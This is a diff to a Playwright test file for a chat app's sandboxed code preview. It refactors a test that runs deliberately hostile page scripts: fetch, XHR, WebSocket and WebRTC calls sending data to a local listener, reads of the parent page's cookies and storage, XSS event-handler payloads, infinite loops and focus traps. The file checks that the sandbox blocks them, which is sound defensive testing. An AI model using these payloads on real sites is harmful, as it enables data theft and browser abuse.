@@ -41,25 +41,8 @@ async function listen() {
   };
 }
 
-let listener: Awaited<ReturnType<typeof listen>>;
-let browser: Browser;
-let folder: string;
-test.beforeAll(async () => {
-  listener = await listen();
-  folder = await mkdtemp(join(tmpdir(), 'noek-attacks-'));
-  browser = await chromium.launch({
-    ...browserProgram,
-    args: [...browserArguments, `--log-net-log=${join(folder, 'network.json')}`],
-  });
-});
-test.afterAll(async () => {
-  await browser.close();
-  listener.close();
-  await rm(folder, { recursive: true });
-});
-
 /** A page whose faults are not those of the product: its documents violate the policy on purpose. */
-async function newPage(): Promise<Page> {
+async function newPage(browser: Browser): Promise<Page> {
   return (await browser.newContext({ viewport: { width: 1280, height: 800 }, locale: 'en-US' })).newPage();
 }
 
@@ -74,13 +57,12 @@ const status = (page: Page, text: string | RegExp) => panel(page).getByRole('sta
 type Block = { language: string; code: string };
 const fenced = ({ language, code }: Block) => `\`\`\`\`${language}\n${code}\n\`\`\`\``;
 
+type Answering = (answer: ReturnType<typeof typing>) => Promise<{ server: Parameters<typeof openChatSignedIn>[1] }>;
+
 /** Opens a chat whose answer has these blocks. */
-async function chatWith(
-  answering: (answer: ReturnType<typeof typing>) => Promise<{ server: Parameters<typeof openChatSignedIn>[1] }>,
-  blocks: readonly Block[],
-): Promise<Page> {
+async function chatWith(browser: Browser, answering: Answering, blocks: readonly Block[]): Promise<Page> {
   const { server } = await answering(typing(blocks.map(fenced).join('\n\n'), 0));
-  const page = await newPage();
+  const page = await newPage(browser);
   // A guest has room for fewer documents.
   await signIn(page.context(), server);
   await openChatSignedIn(page, server);
@@ -104,14 +86,17 @@ const script = (code: string): Block =>
     `<!doctype html><body><p>Hello</p><script>try { ${code} } catch (error) { alert(error.name) } alert('tried')</script>`,
   );
 
-test('nothing arrives, nothing is read, and the chat goes on', async ({ answering }) => {
-  test.slow();
-  const at = `127.0.0.1:${listener.port}`;
+/** A call, whose first packets go to this port. */
+const callTo = (udp: number) =>
+  `const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))`;
+
+/** What documents try, by name. Each says "tried" at its end. */
+function attacksOn({ port, udp }: { port: number; udp: number }): Record<string, Block> {
+  const at = `127.0.0.1:${port}`;
   const host = `http://${at}`;
-  const stun = `stun:127.0.0.1:${listener.udp}`;
-  const call = `const c = new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o))`;
+  const call = callTo(udp);
   const inner = `<script>${call.replaceAll("'", '`')}<\\/script>`;
-  const attacks: Record<string, Block> = {
+  return {
     fetch: script(`fetch('${host}/fetch').catch(() => {}); fetch('http://fetch.${names}/').catch(() => {})`),
     xhr: script(`const x = new XMLHttpRequest(); x.open('POST', '${host}/xhr'); x.send('secret')`),
     socket: script(`new WebSocket('ws://${at}/socket')`),
@@ -163,7 +148,7 @@ test('nothing arrives, nothing is read, and the chat goes on', async ({ answerin
     ),
     calls: script(call),
     'calls by another name': script(
-      `const c = new webkitRTCPeerConnection({ iceServers: [{ urls: '${stun}' }] }); c.createDataChannel('x')`,
+      `const c = new webkitRTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udp}' }] }); c.createDataChannel('x')`,
     ),
     'calls in frames': script(
       `const f = document.createElement('iframe'); f.srcdoc = '${inner}'; document.body.append(f); document.body.insertAdjacentHTML('beforeend', '<iframe srcdoc="${inner.replaceAll('"', '')}"></iframe>'); const t = document.createElement('template'); t.innerHTML = '<iframe srcdoc="x"></iframe><object data="data:text/html,x"></object>'; document.body.append(t.content.cloneNode(true))`,
@@ -209,7 +194,42 @@ test('nothing arrives, nothing is read, and the chat goes on', async ({ answerin
       `for (const read of [() => parent.document.title, () => top.document.cookie, () => parent.localStorage.length, () => parent.location.href, () => frameElement.id, () => indexedDB.open('noek').onsuccess, () => caches.keys().then(alert), () => navigator.serviceWorker.getRegistrations().then(alert), () => { top.location = '${host}/top' }, () => { parent.postMessage({ type: 'drawn', id: 1, svg: '<svg/>', width: 1, height: 1 }, '*'); throw new Error('sent') }]) try { alert('READ ' + read()) } catch (error) { alert(error.name) }`,
     ),
   };
-  const page = await chatWith(answering, Object.values(attacks));
+}
+
+const parts = 4;
+
+for (let part = 1; part <= parts; part++)
+  test(`nothing arrives, nothing is read, and the chat goes on (${part} of ${parts})`, async ({ answering }) => {
+    test.slow();
+    const listener = await listen();
+    const folder = await mkdtemp(join(tmpdir(), 'noek-attacks-'));
+    const browser = await chromium.launch({
+      ...browserProgram,
+      args: [...browserArguments, `--log-net-log=${join(folder, 'network.json')}`],
+    });
+    try {
+      const all = Object.entries(attacksOn(listener));
+      const size = Math.ceil(all.length / parts);
+      await attack(browser, answering, listener, Object.fromEntries(all.slice((part - 1) * size, part * size)));
+      // Names that are looked up are in the browser's log.
+      await browser.close();
+      const log = await readFile(join(folder, 'network.json'), 'utf8');
+      const found = log.match(new RegExp(`[\\w-]+\\.${names.replace('.', '\\.')}`, 'g'));
+      expect(new Set(found)).toEqual(new Set([`control.${names}`]));
+    } finally {
+      await browser.close();
+      listener.close();
+      await rm(folder, { recursive: true });
+    }
+  });
+
+async function attack(
+  browser: Browser,
+  answering: Answering,
+  listener: Awaited<ReturnType<typeof listen>>,
+  attacks: Record<string, Block>,
+): Promise<void> {
+  const page = await chatWith(browser, answering, Object.values(attacks));
   await page.evaluate(() => {
     localStorage.setItem('read', 'me');
   });
@@ -236,24 +256,20 @@ test('nothing arrives, nothing is read, and the chat goes on', async ({ answerin
   expect(await page.evaluate(() => document.title)).toContain('Noek');
 
   // Where nothing shuts a page in, the same things arrive: the server does listen.
+  const host = `http://127.0.0.1:${listener.port}`;
   const bare = await browser.newContext({ bypassCSP: true }).then((context) => context.newPage());
   await bare.goto('about:blank');
   await bare.setContent(
-    `<img src="${host}/control"><script>${call}; new Image().src = 'http://control.${names}/'</script>`,
+    `<img src="${host}/control"><script>${callTo(listener.udp)}; new Image().src = 'http://control.${names}/'</script>`,
   );
   await expect.poll(() => listener.arrived.filter((each) => each.startsWith('GET /control')).length).toBeGreaterThan(0);
   await expect.poll(() => listener.arrived.some((each) => each.startsWith('datagram'))).toBe(true);
   await bare.close();
   listener.arrived.length = 0;
-  await browser.close();
-  const log = await readFile(join(folder, 'network.json'), 'utf8');
-  expect(new Set(log.match(new RegExp(`[\\w-]+\\.${names.replace('.', '\\.')}`, 'g')))).toEqual(
-    new Set([`control.${names}`]),
-  );
-});
+}
 
-test('before a page runs, none of its scripts does', async ({ answering }) => {
-  const page = await chatWith(answering, [
+test('before a page runs, none of its scripts does', async ({ answering, browser }) => {
+  const page = await chatWith(browser, answering, [
     html(
       `<body onload="alert(1)"><p id="p">Still</p><img src="x" onerror="alert(2)"><script>p.textContent = 'Changed'; alert(3)</script><svg onload="alert(4)"><animate attributeName="x" onbegin="alert(5)" begin="0s" dur="1s"/></svg><a href="java&#10;script:alert(6)">Link</a><template><script>alert(7)</script></template><details open ontoggle="alert(8)">x</details></body>`,
     ),
@@ -272,13 +288,16 @@ test('before a page runs, none of its scripts does', async ({ answering }) => {
   await expect(inFrame(page).locator('#p')).toHaveText('Still');
 });
 
-test('what never ends, or sends without end, is stopped, and the chat answers meanwhile', async ({ answering }) => {
+test('what never ends, or sends without end, is stopped, and the chat answers meanwhile', async ({
+  answering,
+  browser,
+}) => {
   test.slow();
   const blocks: [Block, RegExp][] = [
     [html('<p>Loop</p><script>for (;;);</script>'), /did not answer for 10 seconds/],
     [
       html('<script>for (;;) parent.postMessage({ type: "output", stream: "out", text: "x" }, "*")</script>'),
-      /sent too much/,
+      /sent too much|did not answer/,
     ],
     [
       html(
@@ -299,6 +318,7 @@ test('what never ends, or sends without end, is stopped, and the chat answers me
     [{ language: 'js', code: 'const all = [];\nfor (;;) all.push(new Array(1e6).fill(1));' }, /./],
   ];
   const page = await chatWith(
+    browser,
     answering,
     blocks.map(([block]) => block),
   );
@@ -324,8 +344,8 @@ test('what never ends, or sends without end, is stopped, and the chat answers me
   await expect(run(page)).toBeVisible();
 });
 
-test('the message box keeps the focus, unless the person clicks into the frame', async ({ answering }) => {
-  const page = await chatWith(answering, [
+test('the message box keeps the focus, unless the person clicks into the frame', async ({ answering, browser }) => {
+  const page = await chatWith(browser, answering, [
     html('<input id="i" aria-label="Trap"><script>setInterval(() => { window.focus(); i.focus() }, 700)</script>'),
     html('<input id="i"><script>setInterval(() => { window.focus(); i.focus() }, 30)</script>'),
   ]);
@@ -351,8 +371,8 @@ test('the message box keeps the focus, unless the person clicks into the frame',
   await expect(chat.input(page)).toHaveValue('what I type stays here');
 });
 
-test('a page that leaves is stopped', async ({ answering }) => {
-  const page = await chatWith(answering, [html('<script>location = "/preview/frame?again"</script>')]);
+test('a page that leaves is stopped', async ({ answering, browser }) => {
+  const page = await chatWith(browser, answering, [html('<script>location = "/preview/frame?again"</script>')]);
   await open(page, 0);
   await run(page).click();
   await expect(status(page, 'It tried to leave its page and was stopped.')).toBeVisible();
